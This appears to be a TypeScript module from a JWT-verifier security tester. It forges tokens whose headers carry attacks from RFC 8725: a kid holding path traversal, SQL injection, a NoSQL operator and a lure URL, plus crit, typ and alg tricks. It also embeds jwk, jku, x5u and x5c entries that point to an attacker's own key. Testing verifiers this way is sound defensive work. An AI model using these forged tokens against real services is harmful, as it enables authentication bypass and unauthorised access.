import { generateKeyPairSync } from 'node:crypto';
import { forge, headerOf } from '../forge.js';
import type { Attack, Target } from './target.js';

/** Headers that make other verifiers fetch, read or skip something. RFC 8725 §3. */
export function badHeaders(target: Target): Attack[] {
  return [...underOurKey(target), ...underAnAttackersKey(target)];
}

/** Signed with the right key, so that nothing but the header can be the reason. */
function underOurKey({ service, token, lure }: Target): Attack[] {
  const kid = String(headerOf(token)['kid']);
  const changes: Record<string, Record<string, unknown>> = {
    'a kid that is a path': { kid: '../../../../../dev/null' },
    'a kid that is a file URL': { kid: 'file:///dev/null' },
    'a kid that is a URL': { kid: lure },
    'a kid of SQL': { kid: `${kid}' OR '1'='1` },
    'a kid that is an object': { kid: { $ne: null } },
    'a kid in a list': { kid: [kid] },
    'a kid of 10 KB': { kid: 'k'.repeat(10_240) },
    'a kid that every object has': { kid: 'constructor' },
    'no kid': { kid: undefined },
    'a crit that nobody knows': { crit: ['x-must'], 'x-must': true },
    'a crit of what is known': { crit: ['exp'] },
    'an empty crit': { crit: [] },
    'b64 false': { b64: false, crit: ['b64'] },
    'b64 false without crit': { b64: false },
    zip: { zip: 'DEF' },
    'typ JWT': { typ: 'JWT' },
    'typ of an id token': { typ: 'id_token+jwt' },
    'typ of a logout token': { typ: 'logout+jwt' },
    'typ in upper case': { typ: 'AT+JWT' },
    'typ with its media type': { typ: 'application/at+jwt' },
    'no typ': { typ: undefined },
    'alg in lower case': { alg: String(headerOf(token)['alg']).toLowerCase() },
    'alg in a list': { alg: [headerOf(token)['alg']] },
    'no alg': { alg: undefined },
  };
  return Object.entries(changes).map(([what, header]) => [what, forge(service, token, { header })]);
}

function underAnAttackersKey({ service, token, lure }: Target): Attack[] {
  const { privateKey: key, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const kid = headerOf(token)['kid'];
  const jwk = { ...publicKey.export({ format: 'jwk' }), kid, alg: 'ES256', use: 'sig' };
  const changes: Record<string, Record<string, unknown>> = {
    'its own key embedded': { jwk },
    'its own key embedded, under no kid of ours': { jwk, kid: 'mine' },
    'its own key set by jku': { jku: `${lure}/jwks.json` },
    'its own key set by jku, under no kid of ours': { jku: `${lure}/jwks.json`, kid: 'mine' },
    'its own certificate by x5u': { x5u: `${lure}/certificate.pem` },
    'its own certificate embedded': { x5c: ['MIIBszCCAVmgAwIBAgIU'] },
    'its own key under our kid': {},
  };
  return Object.entries(changes).map(([what, header]) => [
    what,
    forge(service, token, { header: { ...header, alg: 'ES256' }, key }),
  ]);
}
